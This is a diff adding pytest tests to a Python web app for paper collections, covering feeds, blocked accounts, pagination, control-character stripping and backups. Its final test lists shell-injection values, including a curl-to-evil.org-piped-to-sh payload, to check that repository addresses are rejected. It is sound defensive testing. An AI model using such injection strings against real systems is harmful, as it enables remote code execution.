@@ -8,12 +8,15 @@ import feedparser
 import pytest
 
 from broadsheet.errors import InputError
+from broadsheet.lab.backup import backup, restore
+from broadsheet.lab.store import Store
 from broadsheet.page import Catalogue
 from broadsheet.page.bibtex import entries
 from broadsheet.page.catalogue import ListedPaper
 from broadsheet.page.citation import csl, ris
 from broadsheet.page.facts import Facts
-from broadsheet.readers import submitting
+from broadsheet.readers import collecting, leaving, submitting
+from broadsheet.web import collecting as pages_of
 
 PAPERS = ("grad-dft", "transip", "granet")
 
@@ -163,3 +166,78 @@ def test_the_api_wants_the_scope(site):
     script.headers["authorization"] = "Bearer bsr_wrong"
     assert script.get("/api/v1/me/collections").status_code == 401
     assert site().get("/api/v1/me/collections").status_code == 401
+
+
+def test_a_deleted_collections_feed_opens_no_later_one(site):
+    ada, anybody = site(address="ada@example.org"), site()
+    number = collection(ada)
+    path = re.search(r'href="(/feeds/collections/[^"]+)"', ada.get(f"/collections/{number}").text)[1]
+    assert anybody.get(path).status_code == 200
+    ada.post(f"/collections/{number}/delete")
+    assert collection(ada, "Another") == number  # SQLite gives the number again
+    assert anybody.get(path).status_code == 404
+
+
+def test_collections_of_a_blocked_account_are_seen_by_nobody_else(site):
+    ada, anybody = site(address="ada@example.org"), site()
+    number = collection(ada, "Buy <this>", public=True)
+    assert "Buy &lt;this&gt;" in anybody.get("/collections").text
+    leaving.block(ada.app.state.edition.store, 1)
+    assert "Buy" not in anybody.get("/collections").text
+    for path in (f"/collections/{number}", f"/feeds/collections/{number}.atom", f"/api/v1/collections/{number}"):
+        assert anybody.get(path).status_code == 404
+    leaving.block(ada.app.state.edition.store, 1, False)
+    assert anybody.get(f"/collections/{number}").status_code == 200
+
+
+def test_empty_collections_push_no_others_out_of_the_list(site):
+    ada, bob = site(address="ada@example.org"), site(address="bob@example.org")
+    store = ada.app.state.edition.store
+    collection(bob, "Bob's", public=True)
+    for k in range(3):
+        collecting.make(store, 1, f"Empty {k}", public=True)
+    assert [(shelf.title, shelf.count) for shelf in collecting.public(store, 2)] == [("Bob's", 3)]
+
+
+def test_a_large_collection_has_pages(site, monkeypatch):
+    monkeypatch.setattr(pages_of, "PER_PAGE", 2)
+    ada, anybody = site(address="ada@example.org"), site()
+    number = collection(ada, public=True, papers=(*PAPERS, "escaip", "hlop"))
+    first, second = (anybody.get(f"/collections/{number}?number={k}").text for k in (1, 2))
+    assert [slug for slug in (*PAPERS, "escaip", "hlop") if f'<li id="{slug}">' in first] == list(PAPERS[:2])
+    assert "5 papers" in first
+    assert "1 of 3" in first
+    assert '<ol class="shelf" start="3">' in second
+    assert f'<li id="{PAPERS[2]}">' in second
+    assert anybody.get(f"/collections/{number}?number=4").status_code == 404
+    own = ada.get(f"/collections/{number}?number=2").text
+    assert (own.count("Move up"), own.count("Move down")) == (2, 2)
+    moved = ada.post(f"/collections/{number}/move", data={"paper": "hlop", "place": "3"})
+    assert moved.headers["location"] == f"/collections/{number}?number=2#hlop"
+    assert order(ada, number) == [*PAPERS, "hlop", "escaip"]
+    ada.post(f"/collections/{number}/take", data={"paper": PAPERS[0]})
+    ada.post(f"/collections/{number}/move", data={"paper": "escaip", "place": "0"})
+    assert order(ada, number) == ["escaip", *PAPERS[1:], "hlop"]
+
+
+def test_what_a_collection_says_has_no_characters_that_are_none(site, tmp_path):
+    ada, anybody = site(address="ada@example.org"), site()
+    number = collection(ada, "A\x00B\x0c\u202eC", public=True)
+    ada.post(f"/collections/{number}/papers", data={"paper": "transip", "note": "Read\x00 this\ufffe"})
+    ada.post(f"/collections/{number}/change", data={"title": "A\x00B\x0c\u202eC", "text": "x\x00y", "public": "true"})
+    ada.post("/submit", data={"value": "https://example.org/ada/claims", "note": "n\x00o"})
+    made = ada.get(f"/api/v1/collections/{number}").json()
+    assert (made["title"], made["text"], made["papers"][1]["note"]) == ("ABC", "xy", "Read this")
+    assert not feedparser.parse(anybody.get(f"/feeds/collections/{number}.atom").content).bozo
+    archive = tmp_path / "all.zip"
+    counts = backup(ada.app.state.edition.store, archive)
+    assert restore(Store(tmp_path / "other"), archive) == counts
+
+
+def test_a_repositorys_address_means_nothing_to_a_shell(site):
+    ada = site(address="ada@example.org")
+    for harm in (";curl${IFS}evil.org|sh", "$(id)", "`id`", "&id", ">x", "'", '"', "(x)", "{a,b}", "\\x", "*", "?"):
+        assert ada.post("/submit", data={"value": f"https://example.org/ada/claims{harm}"}).status_code == 422, harm
+    for wrong in ("https://[", "https://[::1]/x", "https://@example.org/x", "https://$(id).org/x", "https://example.org"):
+        assert ada.post("/submit", data={"value": wrong}).status_code == 422, wrong
+    assert ada.post("/submit", data={"value": "https://git.example.org:8443/~ada/c++.git"}).status_code == 303
